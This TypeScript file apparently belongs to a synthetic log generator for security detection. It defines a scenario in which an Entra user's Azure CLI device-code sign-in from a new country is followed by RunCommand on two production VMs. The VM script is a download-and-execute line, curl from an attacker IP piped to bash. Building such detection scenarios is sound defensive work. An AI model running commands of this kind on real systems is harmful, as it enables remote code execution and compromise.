/**
 * karim.benali uses the Azure portal from Paris. At 17:31 his account completes a device-code sign-in to the Azure
 * CLI from a DigitalOcean address in Frankfurt (new country, new ASN, not a browser), and the token it issued (same
 * `uti`, same `ipaddr` in the claims) runs shell commands on two production VMs through RunCommand.
 */
import { entraTokenId } from '../ids';
import { type AzureCaller, userClaims } from '../records/azure_activity';
import { hostIp, network } from '../scenario/networks';
import { AZURE_MANAGEMENT_RESOURCE, AZURE_SUBSCRIPTIONS, MICROSOFT_APPS } from '../scenario/org';
import { personOf } from '../scenario/people';
import { AZURE_UA } from '../scenario/user_agents';
import type { ChainDefinition } from './chain';
import { AzureChain } from './chain_builder';

const subscription = AZURE_SUBSCRIPTIONS.prod;

export const azureSignInNewLocationRunCommand: ChainDefinition = {
  id: 'azure-signin-new-location-runcommand',
  title: 'An Entra user signs in to the Azure CLI from a new country and ASN, then runs commands on two VMs',
  provider: 'azure',
  techniques: ['T1078.004', 'T1528', 'T1651'],
  build(ctx) {
    const karim = personOf('karim.benali');
    const [givenName, surname] = karim.displayName.split(' ');
    const oid = ctx.dir.azureObjectId(karim.email);
    const net = network('attacker-digitalocean-de');
    const ip = hostIp('attacker-digitalocean-de', 222);
    const uti = entraTokenId(ctx.rng);
    const chain = new AzureChain(ctx, '17:31:44', subscription);
    chain.userSignIn(0, {
      category: 'SignInLogs',
      upn: karim.email,
      userId: oid,
      displayName: karim.displayName,
      app: MICROSOFT_APPS.azureCli,
      resource: AZURE_MANAGEMENT_RESOURCE,
      ip,
      network: net,
      userAgent: AZURE_UA.azCliPip,
      clientAppUsed: 'Mobile Apps and Desktop clients',
      device: { operatingSystem: 'Linux', browser: 'Python Requests 2.32' },
      mfa: true,
      authenticationProtocol: 'deviceCode',
      sessionId: ctx.rng.uuid(),
      uti,
      correlationId: ctx.rng.uuid(),
      risk: 'low',
    });
    const caller: AzureCaller = {
      claims: userClaims({ upn: karim.email, objectId: oid, givenName, surname, displayName: karim.displayName, appId: MICROSOFT_APPS.azureCli.id, ipAddress: ip, uti, issuedAt: chain.now, mfa: true }, ctx.rng),
      callerIp: ip,
      principalId: oid,
      principalType: 'User',
      role: 'Virtual Machine Contributor',
      roleAssignmentScope: `/subscriptions/${subscription.id}`,
    };
    const script = `curl -fsSL http://${ip}/u.sh | bash`;
    chain.operation({ op: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION', gap: [90, 240], args: { vm: 'vm-web-01', commandId: 'RunShellScript', script } }, caller);
    chain.operation({ op: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION', gap: [60, 180], args: { vm: 'vm-sql-01', commandId: 'RunShellScript', script } }, caller);
    return { rootIdentity: karim.email.toLowerCase(), events: chain.events };
  },
};
